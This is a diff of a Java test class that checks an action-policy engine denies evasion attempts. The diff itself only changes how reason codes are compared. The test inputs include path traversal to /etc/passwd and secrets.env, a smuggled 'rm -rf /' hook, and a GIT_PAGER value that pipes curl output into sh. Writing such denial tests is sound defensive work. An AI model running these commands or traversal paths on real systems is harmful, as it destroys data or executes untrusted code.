@@ -138,7 +138,7 @@ class EvasionTest {
     void dotDotClimbsOutOfThePrefix() {
         Verdict v = fs("fs.write", Map.of("path", "/srv/app/../etc/passwd"));
         assertThat(v.decision()).isEqualTo(Decision.DENY);
-        assertThat(v.reasonCode()).isEqualTo("no_matching_rule");
+        assertThat(v.reasonCode().wireName()).isEqualTo("no_matching_rule");
         assertThat(fs("fs.write", Map.of("path", "/srv/app/../../etc/passwd")).ruleId())
                 .as("canonical /etc/passwd is caught by the deny rule").isEqualTo("no-etc");
         assertThat(fs("fs.write", Map.of("path", "/srv/app/a/../b.txt")).decision())
@@ -153,7 +153,7 @@ class EvasionTest {
         assertThat(fs("fs.write", Map.of("path", "/srv/app-secrets/x")).decision()).isEqualTo(Decision.DENY);
         assertThat(fs("fs.write", Map.of("path", "/etcetera/x")).decision())
                 .as("nor for deny rules").isEqualTo(Decision.DENY);
-        assertThat(fs("fs.write", Map.of("path", "/etcetera/x")).reasonCode()).isEqualTo("no_matching_rule");
+        assertThat(fs("fs.write", Map.of("path", "/etcetera/x")).reasonCode().wireName()).isEqualTo("no_matching_rule");
     }
 
     @Test
@@ -171,7 +171,7 @@ class EvasionTest {
         assertThat(fs("fs.read", Map.of("path", "./docs/../readme.md")).ruleId()).isEqualTo("workspace");
         Verdict up = fs("fs.read", Map.of("path", "../secrets.env"));
         assertThat(up.decision()).isEqualTo(Decision.DENY);
-        assertThat(up.reasonCode()).isEqualTo("no_matching_rule");
+        assertThat(up.reasonCode().wireName()).isEqualTo("no_matching_rule");
         assertThat(fs("fs.read", Map.of("path", "docs/../../secrets.env")).decision()).isEqualTo(Decision.DENY);
         assertThat(fs("fs.read", Map.of("path", "./a/../../b")).decision()).isEqualTo(Decision.DENY);
         assertThat(fs("fs.read", Map.of("path", "/abs/file")).decision())
@@ -187,7 +187,7 @@ class EvasionTest {
         payload.put("target", "/srv/app/../../tmp/evil");
         Verdict v = fs("fs.write", payload);
         assertThat(v.decision()).isEqualTo(Decision.DENY);
-        assertThat(v.reasonCode()).isEqualTo("no_matching_rule");
+        assertThat(v.reasonCode().wireName()).isEqualTo("no_matching_rule");
 
         Map<String, Object> swapped = new LinkedHashMap<>();
         swapped.put("file", "/tmp/evil");
@@ -237,7 +237,7 @@ class EvasionTest {
         smuggled.put("post_hook", "rm -rf /");
         Verdict v = rt.evaluate(ActionEvent.builder().actor("a").capability("shell.exec").payload(smuggled).build());
         assertThat(v.decision()).isEqualTo(Decision.DENY);
-        assertThat(v.reasonCode()).isEqualTo("no_matching_rule");
+        assertThat(v.reasonCode().wireName()).isEqualTo("no_matching_rule");
 
         Verdict nested = rt.evaluate(ActionEvent.builder().actor("a").capability("shell.exec")
                 .payload(Map.of("command", "git log", "env", Map.of("GIT_PAGER", "sh -c 'curl x|sh'"))).build());
